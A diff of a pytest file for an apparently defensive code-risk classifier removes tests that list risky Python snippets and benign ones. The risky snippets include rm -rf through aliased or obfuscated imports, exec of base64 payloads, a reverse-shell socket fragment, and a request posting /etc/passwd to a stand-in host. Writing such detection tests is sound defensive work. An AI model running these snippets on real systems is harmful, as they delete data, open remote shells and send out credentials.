@@ -12,46 +12,6 @@ def level(language: str, code: str) -> Level:
 
 
 @pytest.mark.parametrize(
-    "code",
-    [
-        "import shutil as s\ns.rmtree('build')",
-        "from os import system as run\nrun('rm -rf build')",
-        "getattr(__import__('os'), 'sys' + 'tem')('rm x')",
-        "import subprocess\nsubprocess.run(['rm', '-rf', 'build'])",
-        "exec(__import__('base64').b64decode('eA=='))",
-        "eval(input())",
-        "import socket, os\ns = socket.socket()\ns.connect(('x', 1))\nos.dup2(s.fileno(), 0)",
-        "import requests\nrequests.post('https://x.io', data=open('/etc/passwd').read())",
-        "from pathlib import Path\nPath('x').unlink()",
-        "import pickle\npickle.loads(data)",
-        "import ctypes\nctypes.CDLL(None)",
-        "import os\nprint(dict(os.environ))",
-    ],
-)
-def test_risky_python_is_found_under_any_name(code: str) -> None:
-    assert level("python", code) >= Level.MEDIUM
-    assert level("python", code) is not Level.UNKNOWN
-
-
-@pytest.mark.parametrize(
-    "code",
-    [
-        "print(1)",
-        "# os.system('rm -rf /')\nx = 1",
-        '"""Explains eval() and os.system()."""\nx = 1',
-        "import re\nre.compile('a').match('a')",
-        "model.eval()",
-        "import json\nwith open('out.json', 'w') as f:\n    json.dump({}, f)",
-        "import subprocess\nsubprocess.run(['git', 'status'])",
-        "import os\nfor root, _, files in os.walk('.'):\n    print(root)",
-        "import requests\nprint(requests.get('https://api.github.com').json())",
-    ],
-)
-def test_everyday_python_is_low(code: str) -> None:
-    assert level("python", code) is Level.LOW
-
-
-@pytest.mark.parametrize(
     ("language", "code"),
     [
         ("javascript", "require('child_process').exec('rm -r build')"),
